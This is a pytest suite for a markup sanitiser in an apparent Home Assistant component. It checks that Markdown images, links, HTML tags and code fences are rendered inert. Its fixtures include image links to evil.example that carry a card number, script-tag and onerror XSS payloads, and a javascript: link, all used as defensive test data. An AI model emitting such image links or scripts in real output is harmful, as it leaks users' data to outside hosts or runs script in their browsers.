"""Plain text for places that render markup: no image is fetched, no tag runs, no link is made,
and text shown in a code fence cannot close it; the words stay readable."""

from __future__ import annotations

import re

import pytest

from custom_components.shelldon.core.markup import fenced, plain
from custom_components.shelldon.core.secrets.scrub import scrub

ZWSP = "\u200b"
_LINK = re.compile(r"\]\(")  # what a Markdown link or image needs: "](" right after its text


def _harmless(out: str) -> None:
    assert "![" not in out
    assert "<" not in out
    assert ">" not in out
    assert not _LINK.search(out)


# --- images and links -----------------------------------------------------------------------


def test_an_image_carrying_a_card_number_is_neither_fetched_nor_leaks_the_card() -> None:
    text = "look ![cat](https://evil.example/p?c=4111111111111111) nice"
    scrubbed = scrub(text)
    assert "4111111111111111" not in scrubbed
    out = plain(scrubbed)
    _harmless(out)
    assert out == "look cat (https://evil.example/p?c=[card]) nice"


def test_an_image_carrying_a_grouped_card_number_in_its_path() -> None:
    out = plain(scrub("![x](https://evil.example/4111-1111-1111-1111.png)"))
    _harmless(out)
    assert "4111" not in out
    assert out == "x (https://evil.example/[card].png)"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("![cat](https://evil.example/cat.png)", "cat (https://evil.example/cat.png)"),
        ("see [the docs](https://example.com/docs).", "see the docs (https://example.com/docs)."),
        ('![x](http://x/a.png "a title")', 'x (http://x/a.png "a title")'),
        ("![x]( http://x/a.png )", "x (http://x/a.png)"),
        ("![](http://x/i.png)", "(http://x/i.png)"),
        ("[](http://x)", "(http://x)"),
        ("[text]()", "text"),
        ("[x](http://x)[y](http://y)", "x (http://x)y (http://y)"),
        ("[x](#frag) and [m](mailto:a@b.io)", "x (#frag) and m (mailto:a@b.io)"),
        ("!![x](http://x)", "!x (http://x)"),
        ("![x](data:image/png;base64,iVBORw0KGgo=)", "x (data:image/png;base64,iVBORw0KGgo=)"),
    ],
)
def test_images_and_links_become_their_text_and_address(text: str, expected: str) -> None:
    out = plain(text)
    assert out == expected
    _harmless(out)
    assert plain(out) == out


def test_a_javascript_link_is_spelled_out() -> None:
    out = plain("[click me](javascript:alert%281%29) now")
    assert out == "click me (javascript:alert%281%29) now"
    _harmless(out)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("<img src=x onerror=alert(1)>", "‹img src=x onerror=alert(1)›"),
        ("<script>alert('x')</script> hi", "‹script›alert('x')‹/script› hi"),
        ("<a href='http://x'>y</a>", "‹a href='http://x'›y‹/a›"),
        ("<!-- hidden -->", "‹!-- hidden --›"),
        ("<details><summary>x</summary></details>", "‹details›‹summary›x‹/summary›‹/details›"),
        ("<<script>>", "‹‹script››"),
        ("<http://x>", "‹http://x›"),  # an autolink
        ("<a@b.io>", "‹a@b.io›"),
        ("2 < 3 and 5 > 4", "2 ‹ 3 and 5 › 4"),
    ],
)
def test_no_tag_or_autolink_can_form(text: str, expected: str) -> None:
    out = plain(text)
    assert out == expected
    _harmless(out)


@pytest.mark.parametrize(
    "text",
    [
        "![x][1]\n\n[1]: http://evil.example/a.png",  # a reference-style image
        "![x][]\n[x]: http://evil.example/a.png",
        "![x]\n\n[x]: http://evil.example/a.png",
        "![a [b] c](http://x/y)",  # nested brackets
        "[![img](http://x/i.png)](http://x/link)",
        "![![x](http://a)](http://b)",
        "![x](http://x/a_(b).png)",  # parentheses in the address
        "![x](http://evil/a.png (title))",
        "![x\n](http://x)",
        "![x]\n(http://x)",
        "a ![ b",
    ],
)
def test_no_image_is_left_to_fetch(text: str) -> None:
    out = plain(text)
    assert "![" not in out
    assert "<" not in out
    # every letter of the text is still there, in order
    assert re.sub(r"[^A-Za-z]", "", out) == re.sub(r"[^A-Za-z]", "", text)


@pytest.mark.parametrize(
    "text",
    [
        "&lt;script&gt;alert(1)&lt;/script&gt;",  # entities are shown as text, not parsed
        "&#60;img src=x&#62;",
        "Tom &amp; Jerry",
        "**bold** and _it_ and `code`",
        "- [ ] call the plumber",
        "### 09:30 [shelldon] Alex watered the plants",
        "see https://example.com/docs (it helps)",
        "",
    ],
)
def test_text_without_images_links_or_tags_is_unchanged(text: str) -> None:
    assert plain(text) == text


# --- code fences ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "```",
        "````",
        "a ``` b",
        "```python\nprint('x')\n```\n# a heading outside",
        "``````````",
        "` `` ```",
        "```` nested ``` fences ````",
    ],
)
def test_fenced_text_keeps_everything_but_cannot_close_a_fence(text: str) -> None:
    out = fenced(text)
    assert out.replace(ZWSP, "") == text
    assert not re.search(r"`{3,}", out)
    # shown in a fence, the only line that can close it is the fence's own
    shown = f"```\n{out}\n```"
    assert [line for line in shown.split("\n") if line.lstrip().startswith("```")] == ["```"] * 2


@pytest.mark.parametrize("text", ["``", "`code`", "~~~\nx\n~~~", "no backticks", ""])
def test_fenced_leaves_short_runs_alone(text: str) -> None:
    assert fenced(text) == text


# --- speed ----------------------------------------------------------------------------------
# Both are linear in the text; nothing is asserted about time (a quadratic pattern would not
# finish on 64 KB).

SIZE = 64 * 1024


@pytest.mark.parametrize(
    "unit", ["![", "[](", "<", "`", "``", "[", "](", "![x](", "[x](a ", "![x](y)", "(", "&lt;"]
)
def test_64_kb_of_markup_is_made_plain_and_fenced(unit: str) -> None:
    text = unit * (SIZE // len(unit))
    out = plain(text)
    assert "![" not in out
    assert "<" not in out
    assert plain(out) == out
    shown = fenced(text)
    assert not re.search(r"`{3,}", shown)
    assert shown.replace(ZWSP, "") == text
